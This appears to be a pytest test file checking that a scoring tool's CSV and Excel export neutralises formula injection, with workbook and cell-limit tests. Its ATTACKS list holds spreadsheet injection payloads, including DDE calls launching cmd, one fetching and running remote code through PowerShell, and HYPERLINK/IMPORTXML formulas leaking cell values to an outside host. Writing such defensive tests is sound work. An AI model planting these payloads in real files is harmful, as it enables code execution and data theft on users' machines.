"""Nothing that a spreadsheet executes, nothing lost: texts, CSV and workbooks."""

import unicodedata
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from segbench.errors import SegbenchError
from segbench.scoring import spreadsheet
from segbench.scoring.spreadsheet import safe_frame, spreadsheet_safe, write_csv, write_xlsx

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?leak="&A1&A2,"click")',
    '=IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")',
    "=WEBSERVICE(A1)",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\n=1+1",
    "\nplain",
    "\0=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{IDEOGRAPHIC SPACE}@x",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "“=1+1”",
    " ' \"\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "﹢1",
    "\N{MINUS SIGN}1",
    "-12",
    "-",
    "=",
    "@ann",
]
HARMLESS = [
    "",
    "7",
    "007",
    "A-12",
    "a=b",
    "客户1",
    "Key development",
    "重要发展客户(新)",
    "R↓F↑M↑",
    "O'Brien",
    "'quoted'",
    " x",
    "1-2",
    "a@b",
]


def undo(text):
    """What docs/export.md tells somebody to do who wants the original back."""
    return text[1:] if text.startswith("'") and spreadsheet_safe(text) != text else text


@pytest.mark.parametrize("text", ATTACKS)
def test_what_is_executed_gets_one_apostrophe(text):
    assert spreadsheet_safe(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays(text):
    assert spreadsheet_safe(text) == text


@given(st.text(alphabet="=+-@＝'\"` \t\n\u200b\ufeffab1客", max_size=6))
@example("'\tplain")
def test_the_first_sign_is_never_a_starter_and_no_two_texts_become_one(text):
    safe = spreadsheet_safe(text)
    first = unicodedata.normalize("NFKC", safe[:1])
    assert first not in {"=", "+", "-", "@", "\t", "\r", "\n"} or not first
    assert undo(safe) == text


def frame():
    ids = ["007", "-12", "=1+1", "客户"]
    return pd.DataFrame({"id": ids, "gain": [-3.2, np.nan, 0.5, 1e-7], "orders": [-1, 0, 3, 12]})


def test_only_texts_and_headings_are_touched():
    safe, changed = safe_frame(frame().rename(columns={"gain": "@gain"}))
    assert changed == 2
    assert list(safe["id"]) == ["007", "'-12", "'=1+1", "客户"]
    assert list(safe.columns) == ["id", "'@gain", "orders"]
    assert safe["'@gain"].tolist()[0] == -3.2
    assert safe["orders"].tolist() == [-1, 0, 3, 12]


def test_csv_quotes_texts_and_not_numbers(tmp_path):
    write_csv(frame(), tmp_path / "x.csv", "utf-8-sig", ";")
    raw = (tmp_path / "x.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig").splitlines() == [
        '"id";"gain";"orders"', '"007";-3.2;-1', '"-12";"";0', '"=1+1";0.5;3', '"客户";1e-07;12'
    ]  # fmt: skip
    assert (
        pd.read_csv(tmp_path / "x.csv", sep=";", dtype={"id": str})["id"].tolist()
        == frame()["id"].tolist()
    )


def test_a_workbook_holds_texts_as_text_and_numbers_as_numbers(tmp_path):
    write_xlsx(frame(), tmp_path / "x.xlsx", "a sheet with a name that is far too long for Excel")
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    cells = list(sheet.iter_rows(min_row=2))
    assert [cell[0].value for cell in cells] == ["007", "-12", "=1+1", "客户"]
    assert {(cell[0].data_type, cell[0].number_format) for cell in cells} == {("s", "@")}
    assert [cell[1].value for cell in cells] == [-3.2, None, 0.5, 1e-7]
    assert [cell[2].value for cell in cells] == [-1, 0, 3, 12]
    assert len(sheet.title) == 31
    pages = zipfile.ZipFile(tmp_path / "x.xlsx").read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in pages
    again = pd.read_excel(tmp_path / "x.xlsx", dtype={"id": str})
    assert again["id"].tolist() == frame()["id"].tolist()


@pytest.mark.parametrize("text", ["a\x07b", "x" * 40_000])
def test_a_text_that_no_cell_holds_is_refused(tmp_path, text):
    with pytest.raises(SegbenchError, match="a cell cannot hold the id") as error:
        write_xlsx(pd.DataFrame({"id": ["ok", text]}), tmp_path / "x.xlsx", "t")
    assert len(str(error.value)) < 300
    assert str(error.value).isprintable()


def test_more_customers_than_a_sheet_holds_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheet, "MOST_ROWS", 4)
    with pytest.raises(SegbenchError, match="a sheet holds 3 customers; there are 4"):
        write_xlsx(frame(), tmp_path / "x.xlsx", "t")
    write_xlsx(frame().iloc[:3], tmp_path / "x.xlsx", "t")
